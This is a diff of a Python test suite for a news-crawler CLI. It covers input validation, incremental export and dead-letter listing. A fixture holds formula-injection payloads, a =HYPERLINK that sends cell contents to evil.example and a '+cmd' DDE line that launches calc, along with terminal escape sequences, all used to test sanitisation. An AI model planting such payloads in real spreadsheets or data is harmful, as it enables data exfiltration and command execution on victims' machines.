@@ -293,6 +293,7 @@ HOSTILE_ARTICLE = {
     "title": '=HYPERLINK("https://evil.example/?"&A1, "Click")', "authors": ["@SUM(1+1)", "Ann"],
     "published": None, "modified": None, "language": "en", "description": "+cmd|' /C calc'!A0",
     "image": None, "tags": ["\tx", "-2+3"], "text": "\rBody with \x1b[31mcolour\x9b and \u202eback.",
+    "duplicate_of": None,
     "fetched_at": "2024-05-03T11:00:00+00:00",
 }  # fmt: skip
 
@@ -367,12 +368,12 @@ UNREACHABLE = "redis://127.0.0.1:1/0"
     [
         # numbers a setting cannot compute with
         (["status", "-s", "DOWNLOAD_DELAY=NaN", "--redis", UNREACHABLE], "finite number"),
-        (["seed", "demo", "-s", "NEWS_LEASE_SECONDS=Infinity", "--redis", UNREACHABLE], "finite"),
+        (["seed", "https://news.example/", "-s", "NEWS_LEASE_SECONDS=Infinity", "--redis", UNREACHABLE], "finite"),
         (["worker", "-s", "DOWNLOAD_TIMEOUT=1e308", "--redis", UNREACHABLE], "ten years"),
-        (["crawl", "demo", "-s", "NEWS_SEEN_CAPACITY=1e20", "--redis", UNREACHABLE], "2**53"),
+        (["crawl", "https://news.example/", "-s", "NEWS_SEEN_CAPACITY=1e20", "--redis", UNREACHABLE], "2**53"),
         # settings with structure, parsed before any work starts
         (["worker", "-s", "NEWS_ALLOW_NETWORKS=10.0.0.0/33", "--redis", UNREACHABLE], "10.0.0.0/33"),
-        (["crawl", "demo", "-s", "NEWS_ALLOW_HOSTS=http://intranet.example/", "--redis",
+        (["crawl", "https://news.example/", "-s", "NEWS_ALLOW_HOSTS=http://intranet.example/", "--redis",
           UNREACHABLE], "not a host name"),
         (["worker", "-s", 'ITEM_PIPELINES={"nosuch.Pipeline": 1}', "--redis", UNREACHABLE],
          "cannot import nosuch.Pipeline"),
@@ -396,12 +397,12 @@ UNREACHABLE = "redis://127.0.0.1:1/0"
         (["status", "--redis", UNREACHABLE + "\x1b[31m"], "argument 3"),
         (["seed", "https://news.example/\n", "--redis", UNREACHABLE], "control character"),
         # counts beyond what a command does at once
-        (["crawl", "demo", "--workers", "257"], "must be at most 256"),
-        (["crawl", "demo", "--workers", "9" * 5000], "is not a whole number"),
+        (["crawl", "https://news.example/", "--workers", "257"], "must be at most 256"),
+        (["crawl", "https://news.example/", "--workers", "9" * 5000], "is not a whole number"),
         (["dead", "list", "--limit", "10001"], "must be at most 10000"),
         # dates, URLs and paths the system cannot use
         (["export", "--since", "0001-01-01T00:00:00+01:00"], "out of range"),
-        (["crawl", "demo", "--db", "postgresql+asyncpg://u:s3cret@127.0.0.1:1/x", "--redis",
+        (["crawl", "https://news.example/", "--db", "postgresql+asyncpg://u:s3cret@127.0.0.1:1/x", "--redis",
           UNREACHABLE], "driver of 'postgresql+asyncpg://u:***@127.0.0.1:1/x' is not installed"),
         (["worker", "--db", "sqlite+pysqlcipher:///x.db", "--redis", UNREACHABLE], "not installed"),
         (["worker", "--db", "postgresql://u:s3cret@h:notaport/db"], "invalid database URL"),
@@ -416,7 +417,7 @@ UNREACHABLE = "redis://127.0.0.1:1/0"
         (["extract", "a" * 5000], "File name too long"),
         (["export", "--db", f"sqlite:///{'a' * 300}.db"], "File name too long"),
         (["eval", "a" * 5000], "File name too long"),
-        (["crawl", "demo", "-s", "NEWS_DATA_DIR=/proc/newscrawl", "--redis", UNREACHABLE],
+        (["crawl", "https://news.example/", "-s", "NEWS_DATA_DIR=/proc/newscrawl", "--redis", UNREACHABLE],
          "cannot use the data folder"),
     ],
 )  # fmt: skip
@@ -459,3 +460,47 @@ def test_an_unknown_command_is_one_line(tmp_path):
     result = run(tmp_path, "frobnicate")
     assert result.returncode == 2 and len(result.stderr.splitlines()) == 1
     assert "invalid choice" in result.stderr and "Traceback" not in result.stderr
+
+
+def test_export_since_last_run_gives_exactly_what_arrived_since(tmp_path):
+    db = tmp_path / "a.db"
+    _init_db(db, ARTICLES)
+    url = f"sqlite:///{db}"
+
+    def export_last_run():
+        result = run(tmp_path, "export", "--db", url, "--since", "last-run")
+        assert result.returncode == 0, result.stderr
+        return [json.loads(line)["url"] for line in result.stdout.splitlines()]
+
+    assert export_last_run() == ["https://news.example/a/2", "https://other.example/1"]
+    assert export_last_run() == []
+    engine = storage.create_db_engine(url)
+    # a late arrival replayed from a spool keeps its old fetch time; an update comes again
+    late = {**ARTICLES[1], "url": "https://other.example/late", "text": "Late body.",
+            "fetched_at": "2020-01-01T00:00:00+00:00"}  # fmt: skip
+    store_article(engine, late)
+    store_article(engine, {**ARTICLES[0], "title": "Two, corrected"})
+    engine.dispose()
+    assert export_last_run() == ["https://other.example/late", "https://news.example/a/2"]
+    assert export_last_run() == []
+    # the mark is kept per --site
+    other = run(tmp_path, "export", "--db", url, "--since", "last-run", "--site", "other")
+    assert [json.loads(x)["url"] for x in other.stdout.splitlines()] == [
+        "https://other.example/1", "https://other.example/late"
+    ]  # fmt: skip
+
+
+@pytest.mark.integration
+def test_dead_list_shows_readable_times(tmp_path, redis_url, key_prefix):
+    import redis
+
+    from crawler.coordination.keys import Keys
+
+    entry = {"url": "https://a.example/x", "reason": "HTTP 500", "time": 1_800_000_000_000}
+    client = redis.Redis.from_url(redis_url, decode_responses=True)
+    client.rpush(Keys(key_prefix).dead_letters, json.dumps(entry))
+    result = run(
+        tmp_path, "dead", "list", "--redis", redis_url, "-s", f"NEWS_KEY_PREFIX={key_prefix}"
+    )
+    assert result.returncode == 0, result.stderr
+    assert json.loads(result.stdout)["time"] == "2027-01-15T08:00:00+00:00"
